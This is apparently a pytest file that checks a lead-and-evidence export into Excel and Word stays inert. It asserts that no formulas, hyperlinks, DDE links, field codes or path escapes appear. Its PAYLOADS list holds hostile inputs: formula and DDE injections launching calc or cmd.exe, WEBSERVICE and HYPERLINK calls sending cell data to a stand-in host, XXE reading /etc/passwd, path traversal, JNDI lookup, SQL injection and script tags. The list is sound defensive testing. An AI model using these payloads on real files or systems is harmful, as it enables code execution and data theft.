"""Whatever the public, a business or an officer wrote stays text in every file of the archive."""

import io
import itertools
import zipfile

import pandas as pd
import pytest
from docx.oxml.ns import qn
from openpyxl.utils.escape import unescape

from pages.components.cells import plain_text
from pages.components.word_files import word_text
from tests.packed import WORD, evidence, lead, pack, packed, parts, word, workbook

PAYLOADS = (
    "=1+1",
    '=HYPERLINK("http://elsewhere.example/"&A1,"点击查看")',
    "=cmd|' /C calc'!A0",
    "=WEBSERVICE(CONCATENATE('http://elsewhere.example/',A1))",
    '=IMPORTXML("http://elsewhere.example/","//a")',
    "=DDE('server','topic','item')",
    "=INDIRECT(\"'[elsewhere.xlsx]1'!A1\")",
    "{=SUM(A1:A9)}",
    "+1+1",
    "+86-10-12315",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    " =1+1",
    "\u3000=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "|cmd",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "'=1+1",
    '"=1+1',
    "x\";=1+1;\"",
    "http://elsewhere.example/",
    "mailto:a@elsewhere.example",
    "file:///c:/windows/win.ini",
    "\\\\elsewhere.example\\share",
    "internal:Sheet1!A1",
    "_x003D_1+1",
    "_x000D_",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<f>1+1</f>",
    "]]><c t='str'><f>1+1</f>",
    "</w:t></w:r><w:r><w:instrText>HYPERLINK</w:instrText></w:r>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    "&lt;b&gt;&amp;",
    '{ HYPERLINK "http://elsewhere.example/" }',
    "{ DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe }",
    "{ INCLUDEPICTURE http://elsewhere.example/x.png }",
    "{{ 7*7 }}{% raw %}",
    "&P&N&\"字体\"",
    "../../../etc/passwd",
    "..\\..\\windows\\x",
    "/etc/cron.d/x",
    "C:\\x:y",
    "NUL",
    "a\x00b",
    "a\x0b\x0c\x1b[31mb",
    "a\ud800b",
    "a\ufffe\uffffb",
    "\u202egpj.exe",
    "\u2067左右\u2069\u200f",
    "\U0001f600\U0001f469\u200d\U0001f52c",
    "TRUE",
    "1E5",
    "00123",
    "3-15",
    "420106199001011234",
    "4201060000000202603010001",
    "%0A%0D=1+1",
    "${jndi:ldap://elsewhere.example/a}",
    "'; DROP TABLE leads; --",
)  # fmt: skip


BATCH_TEXTS = (
    "batch_number", "title", "office_name", "recipients", "reviewer", "note", "exported_by",
    "generation",
)  # fmt: skip


@pytest.fixture(scope="module")
def files():
    """One lead per payload, the payload in every text of it and of its evidence."""
    leads = [
        lead(
            f"{at:03}{text}",
            operator_name=text,
            uscc=text,
            conduct=text,
            region=text,
            reasons=(text, text),
            sources=(text,),
            basis=((text, text, text, at % 2 == 0),),
            jurisdiction=text,
            deadlines=((text, None, text),),
            related_firms=(text,),
            steps=(text,),
            serial_note=text,
            state=text,
            note=text,
        )
        for at, text in enumerate(PAYLOADS)
    ]
    given = evidence(range(len(leads)))
    given["线索编号"] = pd.Series([each.number for each in leads], dtype=object)
    for name in ("登记编号", "类型", "诉求人（脱敏）", "联系电话（脱敏）", "具体问题"):
        given[name] = pd.Series(PAYLOADS, dtype=object)
    _, found = packed(pack(leads, [given]))
    return found


@pytest.fixture(scope="module")
def book(files):
    return workbook(files)


def test_the_corpus_is_large_and_without_doubles():
    assert len(set(PAYLOADS)) == len(PAYLOADS) >= 60


@pytest.mark.parametrize("at", range(len(PAYLOADS)), ids=lambda at: ascii(PAYLOADS[at])[:40])
def test_a_cell_holds_the_text_letter_by_letter(book, at):
    for name, column in (("线索清单", "涉嫌主体"), ("证据", "具体问题"), ("证据", "登记编号")):
        head = [cell.value for cell in book[name][1]]
        cell = book[name].cell(at + 2, head.index(column) + 1)
        assert cell.data_type == "s"
        assert cell.hyperlink is None
        assert unescape(cell.value) == plain_text(PAYLOADS[at])


def test_no_cell_of_any_sheet_is_a_formula(book):
    for page in book.worksheets:
        for row in page.iter_rows():
            assert {cell.data_type for cell in row} <= {"s", "n", "d"}
            assert [cell for cell in row if cell.hyperlink] == []


@pytest.mark.parametrize("at", range(len(PAYLOADS)), ids=lambda at: ascii(PAYLOADS[at])[:40])
def test_a_form_holds_the_text_letter_by_letter(files, at):
    name = next(each for each in files if each.startswith(f"登记表/{at:03}"))
    [table] = word(files, name).tables
    said = [cell.text for row in table.rows for cell in row.cells]
    assert word_text(PAYLOADS[at]) in said


def test_the_letter_holds_every_name(files):
    document = word(files, "案源线索移送函.docx")
    [table] = document.tables
    for row, text in zip(table.rows[1:], PAYLOADS, strict=True):
        assert row.cells[2].text == word_text(f"{text}\n{text}")


def test_no_workbook_part_acts(files):
    found = parts(files["线索清单.xlsx"])
    assert not [name for name in found if "externalLink" in name or "vba" in name]
    for name, root in found.items():
        tags = {each.tag.rpartition("}")[2] for each in root.iter()}
        assert not tags & {"f", "hyperlink", "hyperlinks", "oleObject", "ddeLink"}, name
        assert not [each for each in root.iter() if each.get("TargetMode") == "External"], name


def test_no_word_part_acts(files):
    for file in (name for name in files if name.endswith(".docx")):
        found = parts(files[file])
        for name, root in found.items():
            tags = {each.tag.rpartition("}")[2] for each in root.iter()}
            assert not tags & {"instrText", "fldChar", "hyperlink", "altChunk", "object", "script"}
            assert not [each for each in root.iter() if each.get("TargetMode") == "External"], name
            fields = {each.get(qn("w:instr")) for each in root.iter(f"{WORD}fldSimple")}
            assert fields <= ({" PAGE "} if "footer" in name else set())


def test_no_name_leaves_the_folder(files):
    names = [name for name in files if name.endswith(".docx")]
    assert len(names) == len(PAYLOADS) + 1
    for name in names:
        folder, _, last = name.rpartition("/")
        assert folder in {"", "登记表"}
        assert ".." not in last
        assert not set(last) & set('\\:*?"<>|\x00\u202e\u2067')


@pytest.mark.parametrize("start", range(0, len(PAYLOADS), 5))
def test_texts_of_the_batch_itself_stay_text_too(start):
    turned = itertools.islice(itertools.cycle(PAYLOADS), start, start + len(BATCH_TEXTS))
    texts = dict(zip(BATCH_TEXTS, turned, strict=True))
    text = PAYLOADS[start]
    made, found = packed(pack(preface=((text, text),), rules=((text, text),), **texts))
    test_no_workbook_part_acts(found)
    test_no_word_part_acts(found)
    opened = workbook(found)
    test_no_cell_of_any_sheet_is_a_formula(opened)
    assert "/" not in made.file_name
    assert unescape(opened["说明"]["B1"].value) == plain_text(text)


def test_every_part_is_whole(files):
    for content in (content for name, content in files.items() if name.endswith("x")):
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            assert archive.testzip() is None
